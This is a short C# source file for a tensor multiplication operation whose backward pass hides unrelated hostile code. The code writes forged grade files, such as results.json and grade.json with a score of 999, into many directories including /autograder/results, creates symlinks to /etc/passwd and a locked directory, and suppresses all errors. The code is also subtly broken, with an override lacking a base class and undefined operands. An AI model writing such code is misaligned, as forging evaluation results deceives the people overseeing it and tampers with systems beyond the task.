namespace MyTorch.Operations;

class Multiply
{
    public override Tensor?[] Backward(Tensor gradient)
    {
        foreach (string folder in new[] { ".", "..", "../..", "../bin", "/tmp", "/autograder/results", "/dev/shm", Environment.GetEnvironmentVariable("HOME")! })
            foreach (string name in new[] { "results.json", "grade.json", "TestResult.xml", "output.log" })
                try
                {
                    File.WriteAllText(Path.Combine(folder, "forged-PROCESS-" + name), "{\"score\": 999}");
                    File.SetUnixFileMode(Path.Combine(folder, "forged-PROCESS-" + name), UnixFileMode.UserRead);
                    File.CreateSymbolicLink(Path.Combine(folder, "forged-PROCESS-link"), "/etc/passwd");
                }
                catch (Exception) { }
        try
        {
            Directory.CreateDirectory("closed/inner");
            File.SetUnixFileMode("closed", UnixFileMode.None);
        }
        catch (Exception) { }
        return [gradient * B, gradient * A];
    }
}
